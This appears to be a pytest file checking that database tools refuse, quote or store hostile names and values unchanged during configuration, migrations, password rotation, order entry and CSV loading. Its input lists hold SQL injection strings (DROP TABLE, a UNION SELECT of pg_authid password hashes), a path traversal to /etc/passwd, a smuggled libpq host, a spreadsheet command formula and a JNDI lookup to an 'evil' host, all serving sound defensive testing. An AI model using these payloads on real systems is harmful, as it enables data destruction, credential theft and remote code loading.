"""Names and values made to break out of a statement: refused, quoted, or stored as they are."""

from __future__ import annotations

import secrets as randomness
import uuid
from contextlib import closing

import pytest

from apply_schema.migration_files import FilesRefused, read_files
from aurora.credentials import Credential
from aurora.deadline import Deadline
from aurora.environment import DatabaseEnvironment, EnvironmentIncomplete
from orders import InvalidOrder, OrderClient, UnknownProduct, WantedLine
from rotate_secret.admin_database import AdminDatabase
from seed_data.loader import load
from seed_data.sources import PathSource
from tests.database.endpoints import AuroraEndpoints
from tests.database.migrating import migrate, write
from tests.database.retail_files import sale, written
from tests.database.rotation.rotating import FIRST_PASSWORD, MysqlUser, PostgresqlUser

IDENTIFIERS = {
    "a quote": "shop'",
    "a double quote": 'shop"',
    "a backtick": "shop`",
    "a backslash": "shop\\",
    "a statement": "shop; DROP TABLE shop.orders",
    "a comment": "shop--",
    "a comment of C": "shop/*",
    "a comment of MySQL": "shop#",
    "a dollar quote": "shop$$",
    "a closing quote and more": "shop'; DROP ROLE shop_owner; --",
    "a closing double quote and more": 'shop"; DROP ROLE shop_owner; --',
    "a closing backtick and more": "shop`; DROP USER shop_owner; -- ",
    "a placeholder": "%s%(x)s{0}",
    "a blank": "shop admin",
    "a tab": "shop\tadmin",
    "a line end": "shop\nadmin",
    "a host": "shop@localhost",
    "a path": "../../etc/passwd",
    "a parameter of libpq": "shop host=evil",
    "a URL": "shop?sslmode=disable",
    "another script": "\u0455hop",
    "a turned direction": "shop\u202epohs",
    "a snowman": "shop\u2603",
    "a keyword": "select",
    "nothing but quotes": "\"\"''``",
}
STATED = {"a keyword"}
"""A plain word, which every one of ours may be: quoted wherever it goes."""
VALUES = {
    **IDENTIFIERS,
    "a condition": "' OR '1'='1",
    "a union": "' UNION SELECT rolpassword FROM pg_authid --",
    "an escaped quote": "\\'; DROP TABLE shop.orders; --",
    "quotes in JSON": '"}], "quantity": 1',
    "an escape of COPY": "\\N\\t\\.",
    "the end of COPY": "\\.",
    "a formula": "=cmd|' /C calc'!A0",
    "an unusual blank": "\u00a0\u2003\u3000",
    "no width": "shop\u200b\u200dadmin",
    "a byte order mark": "\ufeffshop",
    "combining marks": "Z̸̡͌a̷̛l̴g̵o",
    "longer than most": "ä" * 200,
    "null as text": "NULL",
    "an emoji": "shop\U0001f600",
    "a template": "${jndi:ldap://evil/x}{{7*7}}",
}
REFUSED_VALUES = {
    "NUL": "shop\0admin",
    "half a pair": "shop\ud800",
    "too long": "ä" * 100_000,
    "nothing": "",
}


def test_there_are_twenty_of_each():
    assert len(IDENTIFIERS) >= 20
    assert len(VALUES) >= 20


# --- names


@pytest.mark.engine("postgresql")
@pytest.mark.parametrize("what", sorted(IDENTIFIERS.keys() - STATED))
def test_a_hostile_database_or_host_is_refused_before_anything_is_opened(tmp_path, what, database_server):
    server = database_server.server
    with closing(AuroraEndpoints(tmp_path, writer=server, reader=server)) as endpoints:
        good = endpoints.variables("shop")
    for name in ("DATABASE_NAME", "CLUSTER_ENDPOINT", "ADMIN_SECRET_ARN", "AWS_REGION"):
        with pytest.raises(EnvironmentIncomplete, match=f"^{name}="):
            DatabaseEnvironment.from_environment(good | {name: IDENTIFIERS[what]})


@pytest.mark.engine("postgresql")
@pytest.mark.parametrize("what", sorted(IDENTIFIERS.keys() - STATED))
def test_a_hostile_name_of_a_file_or_a_set_is_refused(tmp_path, what):
    name = f"V1__{IDENTIFIERS[what]}.sql"
    if "/" not in name and what != "a comment":  # which is a file's name like any other
        write(tmp_path, {name: "SELECT 1;"})
        with pytest.raises(FilesRefused, match="is no migration's name"):
            read_files(tmp_path)
        (tmp_path / name).unlink()
    write(tmp_path, {"V1__a.sql": "SELECT 1;"})
    with pytest.raises(FilesRefused, match="is no name of an optional set"):
        read_files(tmp_path, [IDENTIFIERS[what]])


@pytest.mark.parametrize("what", IDENTIFIERS)
def test_a_user_of_a_hostile_name_gets_its_new_password_and_nobody_else(database_server, tmp_path, what):
    """Quoted: the name goes through the rotation's ALTER and the login, and stays one name."""
    server, name = database_server.server, f"{IDENTIFIERS[what][:18]}{randomness.token_hex(3)}"
    user = {"postgresql": PostgresqlUser, "mysql": MysqlUser}[database_server.engine](server, name)
    try:
        with closing(AuroraEndpoints(tmp_path, writer=server, reader=server)) as endpoints:
            database = AdminDatabase(endpoints.environment(user.some_database), Deadline.after(20))
            assert database.change_password(Credential(name, FIRST_PASSWORD), "its new one")
            assert database.accepts(Credential(name, "its new one"))
            assert not database.accepts(Credential(name, FIRST_PASSWORD))
    finally:
        user.drop()


# --- values


@pytest.fixture
def client(shared_database):
    with closing(OrderClient(lambda _deadline: shared_database.session("shop_application"))) as client:
        yield client


def ordered(client, *, country="France", code="SMOKE-TEST-A"):
    return client.place(
        request_token=uuid.uuid4(),
        warehouse_id=2,
        country=country,
        lines=[WantedLine(code, 1)],
        deadline=Deadline.after(20),
    )


@pytest.mark.parametrize("what", VALUES)
def test_an_order_keeps_a_hostile_value_as_it_is(client, what):
    placed = ordered(client, country=VALUES[what])
    assert client.read(placed.order_id, deadline=Deadline.after(20)).country == VALUES[what]


@pytest.mark.parametrize("what", VALUES)
def test_a_hostile_stock_code_is_unknown_and_named_as_it_is(client, what):
    with pytest.raises(UnknownProduct) as refused:
        ordered(client, code=VALUES[what])
    assert refused.value.stock_codes == (VALUES[what],)


@pytest.mark.parametrize("what", REFUSED_VALUES)
@pytest.mark.engine("mysql")
def test_what_no_text_can_hold_is_refused_on_mysql(client, what):
    with pytest.raises(InvalidOrder):
        ordered(client, country=REFUSED_VALUES[what])


@pytest.mark.parametrize("what", sorted(REFUSED_VALUES.keys() - {"too long"}))
@pytest.mark.engine("postgresql")
def test_what_no_text_can_hold_is_refused_on_postgresql(client, what):
    """Its texts have no end: a long country is stored as it is."""
    with pytest.raises(InvalidOrder):
        ordered(client, country=REFUSED_VALUES[what])


def test_a_load_keeps_hostile_values_as_they_are(database, tmp_path):
    """In an order, or as a line that is none (a country of blanks), kept with its reason.

    A line end makes two lines of one, which is another test's.
    """
    values = [value for value in VALUES.values() if "\n" not in value]
    lines = [
        sale(str(536365 + number), code=f"C{number}", description=value, country=value)
        for number, value in enumerate(values)
    ]
    with closing(database.session("shop_loader")) as session:
        source = PathSource(written(tmp_path / "hostile.csv", lines))
        report = load(session, source, deadline=Deadline.after(60))
    assert (report.load.lines, report.load.rejects) == (len(values), 2)
    stored = database.rows(
        "SELECT o.country, coalesce(l.description, p.description) FROM shop.orders AS o"
        " JOIN shop.order_lines AS l USING (order_id) JOIN shop.products AS p USING (product_id)"
        " WHERE o.invoice_number IS NOT NULL ORDER BY o.invoice_number"
    )
    rejected = {raw for (raw,) in database.rows("SELECT raw FROM shop.rejects")}
    kept = [value for value, line in zip(values, lines, strict=True) if line not in rejected]
    assert rejected <= set(lines)
    assert stored == [(value, value) for value in kept]


def test_a_migration_keeps_hostile_values_as_they_are(migrated_database, tmp_path):
    """As the engine's own client takes a text: with its quotes doubled, and on MySQL its backslashes."""

    def literal(value):
        doubled = value.replace("'", "''")
        return doubled.replace("\\", "\\\\") if migrated_database.engine == "mysql" else doubled

    numbered = enumerate(VALUES.values())
    rows = ",\n".join(f"    ({number}, '{literal(value)}')" for number, value in numbered)
    column = "text" if migrated_database.engine == "postgresql" else "text CHARACTER SET utf8mb4"
    files = {
        "V0001__hostile.sql": "CREATE TABLE shop.hostile"
        f" (number int PRIMARY KEY, value {column} NOT NULL);\n"
        f"INSERT INTO shop.hostile (number, value) VALUES\n{rows};\n"
    }
    migrated_database.rows("DELETE FROM migrations.history")
    migrate(migrated_database, write(tmp_path, files))
    stored = migrated_database.rows("SELECT value FROM shop.hostile ORDER BY number")
    assert [value for (value,) in stored] == list(VALUES.values())
